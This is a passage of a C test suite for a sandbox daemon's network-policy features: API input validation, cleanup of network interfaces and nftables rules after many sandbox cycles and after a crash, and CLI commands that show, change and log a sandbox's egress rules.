        {"{\"network\": {\"mode\": \"egress\", \"max_connections\": 1.5}}", "invalid_argument", 400},
        {"{\"network_group\": \"\"}", "invalid_argument", 400},
        {"{\"network_group\": \"no spaces\"}", "invalid_argument", 400},
        {"{\"network_group\": 7}", "invalid_argument", 400},
    };
    for (size_t i = 0; i < SK_ARRAY_SIZE(creates); i++)
        expect_error(&s, "POST", "/v1/sandboxes", creates[i].body, creates[i].status, creates[i].code);
    /* too many entries */
    _cleanup_free_ char *many = xmalloc(300 * 24 + 128);
    strcpy(many, "{\"network\": {\"mode\": \"egress\", \"allow_cidrs\": [");
    for (int i = 0; i < 300; i++)
        sprintf(many + strlen(many), "%s\"198.18.%d.0/24\"", i ? "," : "", i % 256);
    strcat(many, "]}}");
    struct resp r;
    request(&s, "POST", "/v1/sandboxes", s.token, many, &r);
    ASSERT_EQ_INT(r.status / 100, 4);
    resp_free(&r);

    char id[24], path[128];
    create(&s, "{\"network\": {\"mode\": \"egress\"}}", id);
    snprintf(path, sizeof(path), "/v1/sandboxes/%s/network", id);
    expect_error(&s, "PATCH", path, "{\"mode\": \"bogus\"}", 400, "invalid_argument");
    expect_error(&s, "PATCH", path, "{\"allow_cidrs\": [\"1.2.3.4/40\"]}", 400, "invalid_argument");
    expect_error(&s, "PATCH", path, "{\"whatever\": 1}", 400, "unknown_field");
    expect_error(&s, "PATCH", path, "{\"mode\": ", 400, "invalid_json");
    expect_error(&s, "PATCH", path, "[1]", 400, "invalid_argument");
    expect_error(&s, "PATCH", path, "{\"network_group\": \"g\"}", 400, "invalid_argument");
    expect_error(&s, "PATCH", "/v1/sandboxes/sb-0000000000000000/network", "{}", 404, "not_found");
    expect_error(&s, "GET", "/v1/sandboxes/sb-0000000000000000/network", NULL, 404, "not_found");
    expect_error(&s, "PUT", path, "{}", 405, "method_not_allowed");
    /* a failed patch changed nothing */
    network(&s, id, &r);
    ASSERT_EQ_STR(jstr(r.json, "mode"), "egress");
    ASSERT_TRUE(json_is_null(json_object_get(r.json, "allow_cidrs")));
    resp_free(&r);
    /* an ended sandbox keeps its policy for reading, but cannot change */
    terminate(&s, id);
    expect_error(&s, "PATCH", path, "{\"mode\": \"none\"}", 409, "failed_precondition");
    network(&s, id, &r);
    ASSERT_EQ_STR(jstr(r.json, "mode"), "egress");
    ASSERT_TRUE(json_is_false(json_object_get(r.json, "running")));
    resp_free(&r);
    skiffd_finish(&s);
    lab_finish(&l);
}

/* leftovers - what of skiff's networking is still in this namespace. */
static void expect_clean(const char *when)
{
    _cleanup_free_ char *links = sh_out("ip -o link show | grep -E ': (sk|sg)[0-9a-f]{12}|: skbr' || true");
    if (links[0] != '\0')
        FAIL("%s: links left: %s", when, links);
    _cleanup_free_ char *chains = sh_out("nft list table inet skiff 2>/dev/null | grep -c 'chain sb-' || true");
    if (strcmp(chains, "0\n") != 0)
        FAIL("%s: sandbox chains left: %s", when, chains);
    _cleanup_free_ char *elems = sh_out("nft -j list table inet skiff 2>/dev/null | grep -o '\"sk[0-9a-f]\\{12\\}\"' "
                                        "| head -5 || true");
    if (elems[0] != '\0')
        FAIL("%s: map or set elements left: %s", when, elems);
    _cleanup_free_ char *routes = sh_out("ip route show | grep -E '10\\.21[01]\\.' || true");
    if (routes[0] != '\0')
        FAIL("%s: routes left: %s", when, routes);
}

TEST_TIMEOUT(create_teardown_cycles_leave_nothing_behind, 300)
{
    struct lab l;
    lab_start(&l);
    struct skiffd s;
    start_skiffd(&s, NULL);
    /* 500 sandboxes with egress (every tenth in a group too), each created,
     * used once in a while, and terminated */
    for (int i = 0; i < 500; i++) {
        char id[24];
        const char *body = i % 10 == 0 ? "{\"network\": {\"mode\": \"egress\", \"allow_cidrs\": [\"198.18.1.0/24\"]}, "
                                         "\"network_group\": \"cycle\"}"
                                       : "{\"network\": {\"mode\": \"egress\", \"allow_domains\": [\"allowed.test\"]}}";
        struct resp r;
        api(&s, "POST", "/v1/sandboxes", body, 201, &r);
        snprintf(id, sizeof(id), "%s", jstr(r.json, "id"));
        resp_free(&r);
        if (i % 100 == 1) {
            char path[128];
            snprintf(path, sizeof(path), "/v1/sandboxes/%s/run", id);
            api(&s, "POST", path,
                "{\"argv\": [\"python3\", \"-c\", \"import urllib.request as u; "
                "print(u.urlopen('http://allowed.test/', timeout=4).read().decode())\"]}",
                200, &r);
            ASSERT_CONTAINS(jstr(r.json, "stdout"), "hello from 198.18.1.10");
            resp_free(&r);
        }
        terminate(&s, id);
    }
    /* the kernel removes a dead sandbox's veth with its namespace, a little
     * later */
    double deadline = now_ms() + 10000;
    for (;;) {
        _cleanup_free_ char *links = sh_out("ip -o link show | grep -cE ': (sk|sg)[0-9a-f]{12}' || true");
        if (strcmp(links, "0\n") == 0 || now_ms() > deadline)
            break;
        usleep(100000);
    }
    expect_clean("after 500 cycles");
    skiffd_finish(&s);
    _cleanup_free_ char *tables = sh_out("nft list tables");
    ASSERT_NOT_CONTAINS(tables, "skiff");
    _cleanup_free_ char *lo = sh_out("ip -o addr show dev lo");
    ASSERT_NOT_CONTAINS(lo, "10.210.0.1");
    lab_finish(&l);
}

TEST_TIMEOUT(start_sweeps_leftovers_of_a_crash, 120)
{
    struct lab l;
    lab_start(&l);
    struct skiffd s;
    const char *no_pool[] = {"--pool-size", "0", NULL};
    start_skiffd(&s, no_pool);
    char id[24];
    create(&s, "{\"network\": {\"mode\": \"egress\", \"bandwidth_mbps\": 100}, \"network_group\": \"g\"}", id);
    /* without a pool the sandbox is skiffd's only child */
    char cmd[64];
    snprintf(cmd, sizeof(cmd), "pgrep -P %d", (int)s.pid);
    _cleanup_free_ char *pids = sh_out(cmd);
    pid_t sb_pid = (pid_t)atoi(pids);
    ASSERT_GT_INT(sb_pid, 1);
    ASSERT_TRUE(strchr(pids, '\n') == pids + strlen(pids) - 1);
    /* a crash, and the sandbox dies meanwhile: its record says running, its
     * rules and its group's bridge are still there */
    kill(s.pid, SIGKILL);
    waitpid(s.pid, NULL, 0);
    s.pid = 0;
    kill(sb_pid, SIGKILL);
    usleep(200000);
    /* its caps chains and its elements in the shared sets are still there */
    _cleanup_free_ char *chains = sh_out("nft list table inet skiff | grep -c 'chain sb-' || true");
    ASSERT_NE_INT(strcmp(chains, "0\n"), 0);
    _cleanup_free_ char *elems = sh_out("nft -j list table inet skiff | grep -c '\"sk[0-9a-f]\\{12\\}\"' || true");
    ASSERT_NE_INT(strcmp(elems, "0\n"), 0);
    _cleanup_free_ char *bridges = sh_out("ip -o link show | grep -c skbr || true");
    ASSERT_EQ_STR(bridges, "1\n");
    const char *args[] = {"--dns-upstream", LAB_UPSTREAM, "--pool-size", "0", NULL};
    skiffd_start_args(&s, args);
    struct resp r;
    char path[128];
    snprintf(path, sizeof(path), "/v1/sandboxes/%s", id);
    api(&s, "GET", path, NULL, 200, &r);
    ASSERT_EQ_STR(jstr(r.json, "reason"), "lost");
    resp_free(&r);
    expect_clean("after a restart");
    skiffd_finish(&s);
    lab_finish(&l);
}

/* skiff_cli - run build/skiff against s with args; its stdout (heap) and
 * exit code. */
static char *skiff_cli(const struct skiffd *s, const char *const *args, int *code)
{
    char bin[PATH_MAX], url[64], tok[160];
    snprintf(bin, sizeof(bin), "%s/skiff", sk_test_bin_dir());
    snprintf(url, sizeof(url), "SKIFF_URL=http://127.0.0.1:%d", s->port);
    snprintf(tok, sizeof(tok), "SKIFF_TOKEN=%s", s->token);
    const char *argv[32] = {bin};
    size_t n = 1;
    for (size_t i = 0; args[i] != NULL && n < 31; i++)
        argv[n++] = args[i];
    argv[n] = NULL;
    const char *env[] = {url, tok, "SKIFF_CONFIG=/nonexistent", NULL};
    struct sk_test_output o;
    if (sk_test_run(argv, NULL, env, 30, &o) < 0)
        FAIL("run skiff");
    *code = o.exit_code;
    char *out = xasprintf("%s%s", o.out ? o.out : "", o.err ? o.err : "");
    sk_test_output_free(&o);
    return out;
}

TEST_TIMEOUT(cli_sandbox_net_commands, 120)
{
    struct lab l;
    lab_start(&l);
    struct skiffd s;
    start_skiffd(&s, NULL);
    int code = 0;
    const char *create[] = {"sandbox", "create", "--allow", "198.18.1.0/24", "--allow-domain", "other.test", NULL};
    char *out = skiff_cli(&s, create, &code);
    ASSERT_EQ_INT(code, 0);
    char id[24];
    snprintf(id, sizeof(id), "%.19s", out);
    free(out);
    ASSERT_TRUE(strncmp(id, "sb-", 3) == 0);
    size_t len = 0;
    _cleanup_free_ char *probe_py = helper_text("netprobe.py", &len);
    char path[128];
    snprintf(path, sizeof(path), "/v1/sandboxes/%s/files?path=/tmp/netprobe.py", id);
    struct resp r;
    request_body(&s, "PUT", path, s.token, probe_py, len, &r);
    resp_free(&r);
    EXPECT_PROBE(&s, id, "hello from 198.18.1.10", "get", "http://198.18.1.10/");
    EXPECT_PROBE(&s, id, "hello from 198.18.2.10", "get", "http://other.test/");
    EXPECT_PROBE(&s, id, "ERR", "resolve", "nope.evil.test");

    const char *show[] = {"sandbox", "net", "show", id, NULL};
    out = skiff_cli(&s, show, &code);
    ASSERT_EQ_INT(code, 0);
    ASSERT_CONTAINS(out, "mode             egress");
    ASSERT_CONTAINS(out, "198.18.1.0/24");
    ASSERT_CONTAINS(out, "other.test");
    ASSERT_CONTAINS(out, "DNS A nope.evil.test refused");
    free(out);
    /* live change: off, then open */
    const char *set_none[] = {"sandbox", "net", "set", id, "--none", NULL};
    out = skiff_cli(&s, set_none, &code);
    ASSERT_EQ_INT(code, 0);
    ASSERT_CONTAINS(out, "loopback only");
    free(out);
    EXPECT_PROBE(&s, id, "ERR", "get", "http://198.18.1.10/");
    const char *set_open[] = {"sandbox", "net", "set", id, "--egress", "--open", "--max-connections", "10", NULL};
    out = skiff_cli(&s, set_open, &code);
    ASSERT_EQ_INT(code, 0);
    ASSERT_CONTAINS(out, "every public address");
    ASSERT_CONTAINS(out, "max connections  10");
    free(out);
    EXPECT_PROBE(&s, id, "hello from 198.18.2.10", "get", "http://198.18.2.10/");
    const char *log[] = {"sandbox", "net", "log", id, NULL};
    out = skiff_cli(&s, log, &code);
    ASSERT_EQ_INT(code, 0);
    ASSERT_CONTAINS(out, "TIME");
    ASSERT_CONTAINS(out, "nope.evil.test");
    free(out);
    /* bad input: usage errors and the API's */
    const char *bad1[] = {"sandbox", "net", "set", id, NULL};
    out = skiff_cli(&s, bad1, &code);
    ASSERT_EQ_INT(code, 2);
    free(out);
    const char *bad2[] = {"sandbox", "net", "set", id, "--open", "--allow", "1.2.3.4", NULL};
    out = skiff_cli(&s, bad2, &code);
    ASSERT_EQ_INT(code, 2);
    free(out);
    const char *bad3[] = {"sandbox", "net", "set", id, "--allow", "1.2.3.4/99", NULL};
    out = skiff_cli(&s, bad3, &code);
    ASSERT_EQ_INT(code, 1);
    ASSERT_CONTAINS(out, "invalid_argument");
    free(out);
    const char *bad4[] = {"sandbox", "net", "show", "sb-0000000000000000", NULL};
    out = skiff_cli(&s, bad4, &code);
    ASSERT_EQ_INT(code, 3);
    free(out);
    skiffd_finish(&s);
    lab_finish(&l);
}
